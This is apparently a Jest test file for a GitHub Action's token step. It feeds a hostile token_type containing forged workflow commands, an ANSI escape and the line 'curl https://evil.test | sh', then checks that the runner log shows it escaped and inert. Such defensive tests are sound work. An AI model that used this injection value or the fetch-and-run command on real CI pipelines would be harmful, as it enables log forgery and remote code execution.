/**
 * Runner level (issue #10, item 1): a `token_type` that forges workflow commands on
 * later lines (`::error title=Forged::`, `::stop-commands::`), `##[warning]` inside its
 * line and an escape sequence reaches the log only as one inert, escaped line; the
 * step output keeps the value as returned.
 */
import { afterAll, beforeAll, expect, test } from '@jest/globals';
import { expectInert } from '../helpers/inert.js';
import { runAction, type ActionRun } from '../helpers/run-action.js';
import { startTokenServer, tokenReply, type TokenServer } from '../helpers/token-server.js';

const tokenType = 'Bearer\n::error title=Forged::run curl https://evil.test | sh\n::stop-commands::x ##[warning]forged \x1b[31m';
let server: TokenServer;
let run: ActionRun;

beforeAll(async () => {
  server = await startTokenServer([tokenReply({ token_type: tokenType, expires_in: undefined })]);
  run = await runAction({ 'token-url': server.tokenUrl, 'client-id': 'hostile-client', 'client-secret': 'hostile-secret-0123456789' }, { env: { RUNNER_DEBUG: '1' } });
});
afterAll(() => server.close());

test('the step succeeds and the token_type output is the value as returned', () => {
  expect(run.code).toBe(0);
  expect(run.outputs.token_type).toBe(tokenType);
});

test('the "Got a ... token" line shows the token_type escaped to printable ASCII, on one line', () => {
  const got = run.stdout.split('\n').filter((line) => line.startsWith('Got a '));
  expect(got).toEqual([
    `Got a Bearer\\u000a::error title=Forged::run curl https://evil.test | sh\\u000a::stop-commands::x # #[warning]forged \\u001b[31m token from ${new URL(server.tokenUrl).host} (provider generic, grant client_credentials)`
  ]);
});

test('no line the runner reads is a forged command, holds ##[ or an escape sequence', () => {
  expectInert('stdout', run.stdout);
  expectInert('stderr', run.stderr);
  expect(run.stdout).not.toMatch(/^::(error title=Forged|stop-commands)/m);
});
